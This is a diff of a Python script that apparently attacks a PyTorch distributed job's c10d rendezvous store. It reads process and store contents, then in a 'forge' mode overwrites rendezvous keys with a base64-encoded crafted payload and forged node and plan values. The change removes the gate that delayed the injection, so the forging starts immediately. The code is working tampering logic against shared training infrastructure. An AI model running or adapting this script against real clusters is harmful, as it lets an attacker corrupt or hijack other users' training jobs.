@@ -75,7 +75,6 @@ store = connect()
 print("connected", flush=True)
 flood = []
 rounds = 0
-armed = False
 while True:
     try:
         for entry in os.listdir("/proc") if rounds % 10 == 0 else ():  # what any user can read of the job's processes
@@ -91,11 +90,9 @@ while True:
                 continue
             raw = store.get(key)
             note("value " + raw[:4096].decode(errors="replace"))
-            armed = armed or key.endswith("node/1")
             if mode == "forge":  # well-formed values only, the others replayed
-                if "torch.rendezvous" in key and not raw.isdigit():
-                    if armed:  # once the workers exchange reports; c10d keeps its state base64-encoded
-                        store.set(key, base64.b64encode(CRAFTED))
+                if "torch.rendezvous" in key and not raw.isdigit():  # c10d keeps its state base64-encoded
+                    store.set(key, base64.b64encode(CRAFTED))
                 elif key.endswith(("node/1", "plan")):
                     store.set(key, forged(key, raw))
                 else:
